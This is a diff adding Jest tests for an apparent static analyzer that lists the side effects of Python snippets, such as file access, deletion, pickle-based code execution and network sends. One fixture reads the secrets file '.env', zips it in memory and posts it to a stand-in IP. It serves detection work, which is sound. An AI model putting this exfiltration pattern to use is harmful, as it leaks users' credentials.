@@ -244,3 +244,67 @@ describe("loaders that are told what to make", () => {
     expect(deeds("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
   });
 });
+
+describe("functions that nothing calls", () => {
+  it("those that need nothing give the others what they need", () => {
+    const program =
+      "import unittest\ndef save(path): open(path, 'w')\n" +
+      "class SaveTest(unittest.TestCase):\n  def test_save(self): save('out/a')\nunittest.main()";
+    expect(deeds(program)).toEqual(["write out/a"]);
+  });
+
+  it("so do tests that a framework gives something", () => {
+    const program =
+      "from unittest import mock\ndef save(path): open(path, 'w')\n" +
+      "@mock.patch('find')\ndef check(find): save('out/a')\ndef test_save(found): save('out/b')";
+    expect(deeds(program)).toEqual(["write out/a", "write out/b"]);
+  });
+
+  it("class methods have their class", () => {
+    const program = "class Notes:\n  path = 'notes.txt'\n  @classmethod\n  def load(cls): return open(cls.path)\n";
+    expect(deeds(program)).toEqual(["read notes.txt"]);
+    expect(deeds(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
+    expect(deeds(`${program}Notes().load()`)).toEqual(["read notes.txt"]);
+  });
+});
+
+describe("what a program packs and unpacks itself", () => {
+  const twice = "pickle.loads(pickle.dumps(A()))";
+
+  it.each([
+    [`import pickle\nclass A: pass\n${twice}`, []],
+    [
+      `import pickle\nclass A:\n  def __reduce__(self): return find()\n${twice}`,
+      ["execute code", "execute from unknown"],
+    ],
+    [`import pickle\nclass A: pass\nA.__reduce__ = find()\n${twice}`, ["execute code", "execute from unknown"]],
+    ["import pickle\nclass A: pass\npickle.loads(pickle.dumps(find()))", ["execute code", "execute from unknown"]],
+  ])("%j: %j", (program, expected) => {
+    expect(deeds(program)).toEqual(expected);
+  });
+});
+
+describe("archives and workbooks", () => {
+  it.each([
+    ["import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('a')", ["read a"]],
+    ["import io, zipfile\nz = zipfile.ZipFile(io.BytesIO(), 'w')\nz.writestr('a', 'b')", []],
+    [
+      "import pandas as pd\nwith pd.ExcelWriter('a.xlsx') as book: pd.DataFrame(rows()).to_excel(book)",
+      ["write a.xlsx", "write a.xlsx"],
+    ],
+  ])("%j: %j", (program, expected) => {
+    expect(deeds(program)).toEqual(expected);
+  });
+
+  it("what was put into one in memory can be sent", () => {
+    const program =
+      "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n" +
+      "z.writestr('a', open('.env').read())\nrequests.post('http://192.0.2.1', data=b.getvalue())";
+    expect(deeds(program)).toContain("network from file .env");
+  });
+});
+
+it("patterns of classes are read, and what guards them", () => {
+  const program = "import os\nmatch x:\n  case int() | C() as v if os.remove('a'):\n    os.remove('b')";
+  expect(deeds(program)).toEqual(["delete a", "delete b"]);
+});
